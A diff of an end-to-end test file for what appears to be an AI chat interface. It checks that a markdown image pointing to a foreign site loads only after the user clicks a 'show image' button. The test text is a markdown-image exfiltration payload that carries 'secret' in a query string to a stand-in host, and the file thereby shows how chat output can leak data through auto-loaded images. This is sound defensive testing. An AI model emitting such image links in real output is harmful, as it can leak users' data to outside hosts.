@@ -1,4 +1,3 @@
-import { createServer } from "node:http"
 import { articles, ask, expect, finished, test } from "./fixtures"
 import { site } from "./people"
 
@@ -44,24 +43,28 @@ test("a picture of another site loads after a click and not before", async ({
   simulator,
   mark,
 }) => {
-  const visits: string[] = []
-  const collector = createServer((request, response) => {
-    visits.push(request.url ?? "")
-    response.end()
-  }).listen(0, "127.0.0.1")
-  const address = collector.address()
-  const port = typeof address === "object" && address ? address.port : 0
-  await simulator.rule(mark, {
-    name: "text",
-    text: `Look: ![a chart](http://127.0.0.1:${port}/?d=secret) done.`,
+  const dot = Buffer.from(
+    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==",
+    "base64",
+  )
+  let visits = 0
+  await page.route("https://pictures.example/**", (route) => {
+    visits += 1
+    return route.fulfill({ body: dot, contentType: "image/png" })
   })
+  const text = "Look: ![a chart](https://pictures.example/?d=secret) done."
+  await simulator.rule(mark, { name: "text", text })
   await page.goto("/")
   await ask(page, `Draw ${mark}`)
   await expect(await finished(page)).toContainText("done.")
   await page.reload()
-  await expect(page.getByRole("button", { name: /show image/i })).toBeVisible()
-  expect(visits).toEqual([])
-  collector.close()
+  const button = page.getByRole("button", { name: /show image/i })
+  await expect(button).toBeVisible()
+  expect(visits).toBe(0)
+  await button.click()
+  const picture = page.getByRole("img", { name: "a chart" })
+  await expect.poll(() => picture.evaluate((image: HTMLImageElement) => image.naturalWidth)).toBe(1)
+  expect(visits).toBe(1)
 })
 
 test("every page has a policy that lets no foreign script in", async ({ desk: page }) => {
